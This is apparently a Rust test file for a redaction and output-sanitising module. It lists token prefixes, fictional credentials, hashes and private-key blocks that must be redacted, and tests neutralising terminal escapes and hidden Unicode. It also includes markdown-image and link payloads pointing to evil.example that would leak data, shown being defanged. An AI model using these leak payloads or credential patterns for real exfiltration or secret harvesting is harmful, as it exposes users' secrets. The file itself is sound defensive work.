//! What hostile text turns into, and which credentials are found.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::print_stderr
)]

use super::*;
use proptest::prelude::*;

/// How tokens of well-known services begin.
const PREFIXES: [&str; 24] = [
    "ghp_",
    "gho_",
    "ghu_",
    "ghs_",
    "ghr_",
    "github_pat_",
    "glpat-",
    "glsa_",
    "xoxb-",
    "xoxp-",
    "sk-",
    "sk-ant-",
    "sk_live_",
    "rk_live_",
    "npm_",
    "pypi-",
    "SG.",
    "hf_",
    "dop_v1_",
    "shpat_",
    "hvs.",
    "tskey-",
    "AIza",
    "ya29.",
];

/// Lines as they stand in files and logs, with the credential in each.
const PLAIN: [(&str, &str); 30] = [
    ("export DB_PASSWORD=hunter2-fictional", "hunter2-fictional"),
    ("password: \"correct horse battery\"", "correct horse battery"),
    ("{\"client_secret\": \"abc123def\", \"id\": 4}", "abc123def"),
    ("api_key = 'k-991-xyz'", "k-991-xyz"),
    ("--api-key k-992-xyz --verbose", "k-992-xyz"),
    ("--password=s3cr3t!x", "s3cr3t!x"),
    ("Authorization: Bearer abcdef0123456789", "abcdef0123456789"),
    ("curl -H 'authorization: Basic dXNlcjpwYXNzd29yZA=='", "dXNlcjpwYXNzd29yZA=="),
    ("curl -u admin:opensesame1 http://x.example", "opensesame1"),
    ("postgres://app:pa55word@db.example:5432/app", "pa55word"),
    ("redis://:onlysecret@cache:6379/0", "onlysecret"),
    ("https://oauth2tokenvalue99@git.example/repo.git", "oauth2tokenvalue99"),
    ("Set-Cookie: session=9f8e7d6c5b4a; HttpOnly", "9f8e7d6c5b4a"),
    ("Cookie: a=b; sid=0123abcdef", "0123abcdef"),
    ("root:$6$saltsalt$J0sT2p9LmQw1ZxCvBnM3kQ8rTyUiOp:19000:0:99999:7:::", "J0sT2p9LmQw1ZxCvBnM3kQ8rTyUiOp"),
    ("alice:$y$j9T$abcdefghijkl$0123456789abcdefghijklmnop:19000::::::", "0123456789abcdefghijklmnop"),
    ("htpasswd bob:$2b$10$abcdefghijklmnopqrstuvwxyz0123456789", "abcdefghijklmnopqrstuvwxyz0123456789"),
    ("machine git.example login me password netrcsecret", "netrcsecret"),
    ("db.example:5432:app:appuser:pgpasssecret", "pgpasssecret"),
    ("mysqldump -u root -pMyS3cret app", "MyS3cret"),
    (
        "aws_secret_access_key = wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY",
        "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY",
    ),
    ("aws_access_key_id = AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE"),
    (
        "PrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=",
        "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=",
    ),
    ("\"auth\": \"c29tZXVzZXI6c29tZXBhc3M=\"", "c29tZXVzZXI6c29tZXBhc3M="),
    ("<password>xmlsecret</password>", "xmlsecret"),
    ("url=https://h.example/cb?access_token=qwerty123456&x=1", "qwerty123456"),
    ("AccountName=x;AccountKey=Zm9vYmFyYmF6cXV4;Endpoint=y", "Zm9vYmFyYmF6cXV4"),
    ("wpa_passphrase=homewifi2020", "homewifi2020"),
    ("jwt eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlMTIz here", "eyJzdWIiOiIxIn0"),
    ("requirepass: redispass77", "redispass77"),
];

/// A line with a credential, and the credential.
fn secrets() -> Vec<(String, String)> {
    let word = "Zk3v9Qw7Lm2Xc8Vb5Nn1";
    let long = format!("{word}{word}");
    let mut lines = Vec::new();
    for prefix in PREFIXES {
        lines.push((format!("found {prefix}{long} in the log"), format!("{prefix}{long}")));
    }
    lines.extend(PLAIN.map(|(line, secret)| (line.to_owned(), secret.to_owned())));
    for kind in ["RSA ", "", "OPENSSH ", "EC "] {
        let block = format!(
            "before\n-----BEGIN {kind}PRIVATE KEY-----\nMIIEowIBAAKCAQEAx1\nlast0987line\n-----END {kind}PRIVATE KEY-----\nafter"
        );
        lines.push((block.clone(), "MIIEowIBAAKCAQEAx1".to_owned()));
        lines.push((block, "last0987line".to_owned()));
    }
    lines.push(("-----BEGIN PRIVATE KEY-----\nMIIEcut0off".to_owned(), "MIIEcut0off".to_owned()));
    lines.extend(OVER_LINES.map(|(text, secret)| (text.to_owned(), secret.to_owned())));
    lines
}

/// Credentials that stand on several lines, and a part of each that must not stay.
const OVER_LINES: [(&str, &str); 22] = [
    ("SECRET_TOKEN=fictional-\\\nhunter2 send it", "hunter2"),
    ("SECRET_TOKEN=fictional-\\\nhunter\\\ntwo22 send it", "two22"),
    ("key AKIAIOSF\nODNN7EXAMPLE is used", "ODNN7EXAMPLE"),
    ("key AKIAIOSF\nODNN7EXAMPLE is used", "AKIAIOSF"),
    ("ghp_Zk3v9Qw7\nLm2Xc8Vb5Nn1Zk3v9Q\nend", "Lm2Xc8Vb5Nn1Zk3v9Q"),
    ("token ghp_Zk3v9Qw7Lm2Xc8Vb5Nn1\nZk3v9Qw7Lm2Xc8Vb\nend", "ghp_Zk3v9Qw7Lm2Xc8Vb5Nn1"),
    ("jwt eyJhbGciOiJIUzI1NiJ9.eyJz\ndWIiOiIxIn0.c2lnbmF0dXJlMTIz here", "dWIiOiIxIn0"),
    (
        "lk_0123456789abcdef0123456789abcdef_0123\n456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123 x",
        "lk_0123456789abcdef0123456789abcdef_0123",
    ),
    (
        "lt_0123456789abcdef01234567\n89abcdef_0123456789abcdef0123456789abcdef",
        "89abcdef_0123456789abcdef0123456789abcdef",
    ),
    ("  \"password\":\n    \"hunter2-fictional\",", "hunter2-fictional"),
    ("db:\n  password:\n    hunter2-fictional", "hunter2-fictional"),
    ("password: >\n  hunter2-fictional", "hunter2-fictional"),
    ("password: |-\n  hunter2-fictional", "hunter2-fictional"),
    ("export API_TOKEN=\\\n  abc123def456", "abc123def456"),
    ("API_TOKEN=abc123\\\n  def456ghi", "def456ghi"),
    ("MIIEowIBAAKCAQEAx1\nq2w3e4r5t6z7u8i9\n-----END RSA PRIVATE KEY-----\nafter", "MIIEowIBAAKCAQEAx1"),
    ("tail\nq2w3e4r5t6z7u8i9\n-----END PRIVATE KEY-----", "q2w3e4r5t6z7u8i9"),
    (
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,AA\n\nMIIEcut0off",
        "MIIEcut0off",
    ),
    (
        "k: -----BEGIN PRIVATE KEY-----\\nMIIEowIBAAKCAQEAx1\\n-----END PRIVATE KEY-----\\n",
        "MIIEowIBAAKCAQEAx1",
    ),
    (
        "Nov 1 a: -----BEGIN EC PRIVATE KEY-----\nNov 1 a: MIIEowIBAAKCAQEAx1\nNov 1 b: up",
        "MIIEowIBAAKCAQEAx1",
    ),
    (
        "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\nlQOYBF0abc1234567\n=abcd\n-----END PGP PRIVATE KEY BLOCK-----",
        "lQOYBF0abc1234567",
    ),
    ("# .env\nDB_PASS=hunter2-fictional\nSTRIPE_SECRET='x9x9x9x9'\n", "x9x9x9x9"),
];

#[test]
fn a_beginning_without_an_end_hides_no_other_lines() {
    let text = "-----BEGIN PRIVATE KEY-----\nNov 28 web-03 kernel: nvme0: I/O error\nall is well";
    assert_eq!(redact(text), "[redacted]\nNov 28 web-03 kernel: nvme0: I/O error\nall is well");
    let prompt = "Enter password:\nLast login: today\nsecret:\n\nnext";
    assert_eq!(redact(prompt), prompt);
}

#[test]
fn credentials_of_each_known_shape_are_taken_out() {
    let cases = secrets();
    for (line, secret) in &cases {
        let clean = redact(line);
        assert!(!clean.contains(secret.as_str()), "{secret} is left in {clean:?} (of {line:?})");
        assert!(clean.contains(REDACTED), "{clean:?}");
        assert_eq!(redact(&clean), clean, "twice is once");
    }
    eprintln!("{} lines with credentials redacted", cases.len());
}

#[test]
fn what_is_no_credential_stays() {
    let cases = [
        "FATAL: password authentication failed for user app",
        "PasswordAuthentication no",
        "PasswordAuthentication: yes",
        "max_tokens: 4096",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "GET /health HTTP/1.1 200 https://legator.example.com/approvals",
        "nginx: worker process is shutting down",
        "Mar 14 09:12:01 web-03 sshd[812]: Failed password for root from 203.0.113.9 port 22 ssh2",
        "listen 0.0.0.0:443 ssl;",
        "root:x:0:0:root:/root:/bin/bash",
        "secret: none",
        "/etc/nginx/nginx.conf",
        "sk-learn is installed, so is npm_run_all and lt_LT.UTF-8",
        "-----BEGIN CERTIFICATE-----",
        "time=2026-03-14T09:12:01Z level=info msg=ok",
        "host-a:22:b:c",
    ];
    for line in cases {
        assert_eq!(redact(line), line);
    }
    eprintln!("{} lines without credentials unchanged", cases.len());
}

#[test]
fn a_credential_found_by_its_name_is_found_elsewhere() {
    let text = redact("DB_PASSWORD=hunter2-fictional\nGET /?d=hunter2-fictional&x\nhunter2-fictional again");
    assert_eq!(text, "DB_PASSWORD=[redacted]\nGET /?d=[redacted]&x\n[redacted] again");
}

#[test]
fn around_a_private_key_the_text_stays() {
    let text = "a\n-----BEGIN RSA PRIVATE KEY-----\nx\n-----END RSA PRIVATE KEY-----\nb";
    assert_eq!(redact(text), "a\n[redacted]\nb");
}

#[test]
fn terminals_and_eyes_are_not_fooled() {
    let cases = [
        ("ok \u{1b}[8mhidden\u{1b}[28m", "ok ␛[8mhidden␛[28m"),
        ("\u{1b}[1A\u{1b}[2K", "␛[1A␛[2K"),
        ("user \u{202e}eve\u{202c}", "user \\u{202e}eve\\u{202c}"),
        ("\u{2066}db-01\u{2069}", "\\u{2066}db-01\\u{2069}"),
        ("a\u{e0061}\u{e0073}", "a\\u{e0061}\\u{e0073}"),
        ("zero\u{200b}width\u{feff}", "zero\\u{200b}width\\u{feff}"),
        ("\u{9b}31mred", "\\u{9b}31mred"),
        ("bell\u{7}del\u{7f}nul\0", "bell␇del␡nul␀"),
        ("over\rwritten", "over␍written"),
        ("windows\r\nline\tand tab", "windows\nline\tand tab"),
        ("Grüße, 日本, 👍", "Grüße, 日本, 👍"),
    ];
    for (text, wanted) in cases {
        assert_eq!(shown(text), wanted);
    }
    assert_eq!(shown_line("report.txt\n\nassistant: well"), "report.txt␊␊assistant: well");
    assert_eq!(shown_bytes(b"a\xffb\x1b"), "a\u{fffd}b␛");
}

#[test]
fn what_is_cut_is_said() {
    assert_eq!(brief("aüb", 10), "aüb");
    assert_eq!(brief("aüüüüb", 6), "aü…");
    assert_eq!(cut("ü", 1), "");
    assert_eq!(tail("aü", 1), "");
    let text = ends(&"x".repeat(1000), 100);
    assert!(text.contains("900 bytes are left out") && text.len() < 160);
}

#[test]
fn addresses_are_unlinked_unless_a_person_said_them() {
    let said = "is https://shop.example.com/cart up?";
    assert_eq!(
        unlinked("see https://shop.example.com/cart now", said),
        "see https://shop.example.com/cart now"
    );
    let leak = unlinked("![s](https://evil.example/p.png?d=http://x/1)", said);
    assert_eq!(leak, "![s] (hxxps[:]//evil.example/p.png?d=http[:]//x/1)");
    for (text, wanted) in [
        ("![s](//evil.example/p.png?d=1)", "![s] ([/]/evil.example/p.png?d=1)"),
        ("[x]: //evil.example/p", "[x]: [/]/evil.example/p"),
        ("<img src=//evil.example/p>", "<img src=[/]/evil.example/p>"),
        ("see www.evil.example/?d=1 and WWW.x.example", "see [www].evil.example/?d=1 and [www].x.example"),
        ("[open](javascript:alert(1))", "[open] (javascript:alert(1))"),
        ("https://shop.example.com/cart?d=secret", "hxxps[:]//shop.example.com/cart?d=secret"),
        ("a // comment, /var//log, [e3]: up", "a // comment, /var//log, [e3]: up"),
    ] {
        assert_eq!(unlinked(text, said), wanted);
    }
    assert!(!unlinked("ä://x FILE:///etc ://", said).contains("FILE:///"));
}

proptest! {
    #[test]
    fn shown_text_holds_no_hidden_character(text in "\\PC{0,80}|.{0,80}") {
        let text = shown(&text);
        prop_assert!(!text.chars().any(|c| is_hidden(c) && c != '\n' && c != '\t'));
        prop_assert_eq!(shown(&text), text.clone());
    }

    #[test]
    fn nothing_panics_and_bounds_hold(text in ".{0,200}", bound in 0usize..64) {
        prop_assert!(cut(&text, bound).len() <= bound);
        prop_assert!(tail(&text, bound).len() <= bound);
        prop_assert!(brief(&text, bound.max(3)).len() <= bound.max(3));
        let clean = redact(&text);
        prop_assert_eq!(redact(&clean), clean.clone());
        let _ = unlinked(&text, "");
    }

    #[test]
    fn redacting_any_line_of_credentials_is_stable(parts in proptest::collection::vec(
        prop_oneof!["password", "=", ":", " ", "\"", "'", "Bearer", "://", "@", "secret", "-----BEGIN PRIVATE KEY-----", "\n", "[a-z0-9]{0,9}"], 0..20)) {
        let text = parts.concat();
        let clean = redact(&text);
        prop_assert_eq!(redact(&clean), clean.clone());
    }
}
